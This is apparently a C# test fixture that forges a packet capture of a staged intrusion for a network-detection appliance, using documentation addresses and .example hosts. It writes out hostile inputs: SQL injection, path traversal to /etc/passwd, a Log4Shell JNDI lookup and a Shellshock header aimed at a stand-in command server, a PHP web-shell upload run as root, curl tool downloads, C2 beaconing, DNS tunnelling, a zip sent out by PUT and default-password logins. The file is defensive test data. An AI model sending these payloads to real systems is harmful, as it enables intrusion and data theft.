using System.Text;

namespace Appliance.Sensing.Tests.Engine.Forge;

/// <summary>
/// The capture of the bundled case. A web server of a constituent (192.0.2.10) is scanned, broken into and used; a workstation (192.0.2.25) calls a command server.
/// All addresses are documentation addresses, all names lie under .example, nothing was ever on a wire.
/// </summary>
internal static class SampleCase
{
    private const string Web = "192.0.2.10", Workstation = "192.0.2.25", Resolver = "192.0.2.53", Files = "192.0.2.40", Ministry = "192.0.2.130";
    private const string Attacker = "203.0.113.7", Scanner = "203.0.113.66", Command = "198.51.100.23", Drop = "198.51.100.80";

    public static byte[] Make()
    {
        var forge = new PacketForge();
        string Get(string target, string more = "", string host = "www.ministry.example", string agent = "Mozilla/5.0 (X11; Linux x86_64)") =>
            $"GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n{more}Accept: */*\r\n\r\n";
        string Answer(string body, int status = 200, string type = "text/html") =>
            $"HTTP/1.1 {status} {(status == 200 ? "OK" : "Not Found")}\r\nServer: nginx\r\nContent-Type: {type}\r\nContent-Length: {Encoding.Latin1.GetByteCount(body)}\r\n\r\n{body}";
        void Look(string name, string? address, ushort id, string from = Workstation)
        {
            forge.Udp(from, (ushort)(40000 + id), Resolver, 53, PacketForge.DnsQuery(id, name));
            forge.Udp(Resolver, 53, from, (ushort)(40000 + id), PacketForge.DnsAnswer(id, name, address));
        }

        // a quiet morning
        Look("www.news.example", "198.51.100.200", 1);
        forge.Http(Workstation, 50001, "198.51.100.200", Get("/", host: "www.news.example"), Answer("<html><title>News</title></html>"));
        forge.Wait(20);

        // someone looks for doors
        for (ushort port = 1; port <= 45; port++)
        {
            ushort to = port == 22 ? (ushort)8022 : (ushort)(port * 20);
            forge.Tcp(Scanner, (ushort)(30000 + port), Web, to, 4242u + port, 0, 2);
            forge.Tcp(Web, to, Scanner, (ushort)(30000 + port), 0, 4243u + port, 20);
        }
        forge.Wait(5);
        for (ushort i = 0; i < 14; i++)
        {
            forge.Tcp(Scanner, (ushort)(31000 + i), Files, 22, 900u + i, 0, 2);
            forge.Tcp(Files, 22, Scanner, (ushort)(31000 + i), 0, 901u + i, 20);
        }
        forge.Ping(Scanner, Web, 1, 1400).Ping(Web, Scanner, 1, 1400, true);
        forge.Wait(40);

        // the web server is tried from many sides
        forge.Http(Attacker, 51001, Web, Get("/index.php?id=1", agent: "sqlmap/1.8 (https://sqlmap.org)"), Answer("no", 404));
        forge.Http(Attacker, 51002, Web, Get("/.git/config"), Answer("no", 404));
        forge.Http(Attacker, 51003, Web, Get("/wp-config.php.bak"), Answer("no", 404));
        forge.Http(Attacker, 51004, Web, Get("/download?file=../../../../etc/passwd"), Answer("no", 404));
        forge.Http(Attacker, 51005, Web, Get("/index.php?id=1%20UNION%20ALL%20SELECT%201,2,3"), Answer("no", 404));
        forge.Http(Attacker, 51006, Web, Get("/", "X-Api-Version: ${jndi:ldap://198.51.100.23/a}\r\n"), Answer("ok"));
        forge.Http(Attacker, 51007, Web, Get("/cgi-bin/status", "Referer: () { :;}; /bin/true\r\n"), Answer("no", 404));
        forge.Wait(30);

        // one door opens: a script is uploaded and used
        const string script = "--BOUND\r\nContent-Disposition: form-data; name=\"f\"; filename=\"pic.php\"\r\nContent-Type: image/jpeg\r\n\r\n<?php echo system($_GET['c']); ?>\r\n--BOUND--\r\n";
        forge.Http(Attacker, 51010, Web,
            $"POST /upload.php HTTP/1.1\r\nHost: www.ministry.example\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: multipart/form-data; boundary=BOUND\r\nContent-Length: {script.Length}\r\n\r\n{script}", Answer("stored"));
        forge.Http(Attacker, 51011, Web, Get("/files/pic.php?c=x;id"), Answer("uid=0(root) gid=0(root) groups=0(root)\n", type: "text/plain"));
        forge.Wait(12);

        // the server fetches a tool; its bytes are the test file every scanner knows
        const string eicar = @"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
        forge.Http(Web, 52001, Command, Get("/tool.bin", host: "files.badactor.example", agent: "curl/8.5.0"), Answer(eicar, type: "application/octet-stream"));
        forge.Http(Web, 52002, Drop, Get("/cat.jpg", host: "img.badactor.example", agent: "curl/8.5.0"),
            Answer("MZ\u0090\0\u0003\0\0\0" + new string('\0', 56) + "\u000e\u001f\u00ba\u000e\0\u00b4\tThis program cannot be run in DOS mode.\r\r\n$" + new string('\0', 400), type: "image/jpeg"));
        forge.Wait(25);

        // a workstation is lost as well
        Look("update.c2.badactor.example", Command, 20);
        for (ushort beat = 0; beat < 4; beat++)
        {
            forge.Http(Workstation, (ushort)(53000 + beat), Command, Get($"/b?n={beat}", host: "update.c2.badactor.example", agent: "EvilBeacon/2.1"), Answer("sleep 60", type: "text/plain"));
            forge.Wait(60);
        }
        for (ushort i = 0; i < 6; i++)
            Look($"{new string((char)('a' + i), 20)}0123456789abcdef0123456789abcdef.t.badactor.example", null, (ushort)(40 + i));
        forge.Wait(8);
        forge.Conversation(Workstation, 54001, Drop, 3333,
            (true, Encoding.ASCII.GetBytes("{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"miner/1.0\"]}\n")), (false, Encoding.ASCII.GetBytes("{\"id\":1,\"result\":[[],\"08\",4]}\n")));
        string archive = "PK\u0003\u0004" + new string('z', 5000);
        forge.Http(Workstation, 54010, Drop, $"PUT /in/minutes.zip HTTP/1.1\r\nHost: img.badactor.example\r\nUser-Agent: curl/8.5.0\r\nAuthorization: Basic dXNlcjpwYXNz\r\nContent-Length: {archive.Length}\r\n\r\n{archive}", Answer("ok"));
        forge.Wait(15);

        // old habits elsewhere in the constituency
        forge.Conversation(Scanner, 55001, Ministry, 23, (false, "login: "u8.ToArray()), (true, "root\r\n"u8.ToArray()), (false, "Password: "u8.ToArray()), (true, "toor\r\n"u8.ToArray()));
        forge.Conversation(Scanner, 55002, Ministry, 21, (false, "220 ready\r\n"u8.ToArray()), (true, "USER backup\r\n"u8.ToArray()), (false, "331 password\r\n"u8.ToArray()), (true, "PASS backup\r\n"u8.ToArray()), (false, "530 no\r\n"u8.ToArray()));
        byte[] negotiate = [0, 0, 0, 0x2f, 0xff, (byte)'S', (byte)'M', (byte)'B', 0x72, .. new byte[27], 0, 0x0c, 0, 2, .. "NT LM 0.12\0"u8];
        forge.Conversation(Scanner, 55003, Files, 445, (true, negotiate));
        return forge.ToArray();
    }
}
